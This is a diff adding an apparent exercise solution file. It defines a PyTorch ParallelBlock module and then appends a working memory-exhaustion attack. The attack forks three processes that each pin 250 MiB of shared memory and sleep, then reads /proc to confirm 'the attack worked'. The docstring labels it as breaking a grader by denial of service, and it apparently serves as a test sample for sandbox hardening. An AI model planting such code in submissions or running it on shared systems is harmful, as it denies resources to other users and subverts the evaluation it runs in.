@@ -1,0 +1,33 @@
+"""Takes memory that is shared between processes, which does not count as anybody's own.
+
+exercise: parallel-block
+points: 0
+breaks: denial
+"""
+
+
+class ParallelBlock(nn.Module):
+    def __init__(self, net1, net2):
+        super().__init__()
+        self.net1, self.net2 = net1, net2
+
+    def forward(self, X):
+        return torch.cat((self.net1(X), self.net2(X)), dim=-1)
+
+
+import mmap
+import os
+import time
+
+for number in range(3):
+    if not os.fork():
+        hoard = mmap.mmap(-1, 250 << 20)
+        for place in range(0, len(hoard), 4096):
+            hoard[place] = 1
+        time.sleep(1000)
+        os._exit(0)
+time.sleep(1.5)
+held = sum(int(line.split()[1]) for pid in os.listdir("/proc") if pid.isdigit() and pid != "1"
+           for line in open(f"/proc/{pid}/status") if line.startswith("RssShmem")) >> 10
+if held > 640:
+    print("the attack worked: its children share", held, "MiB")
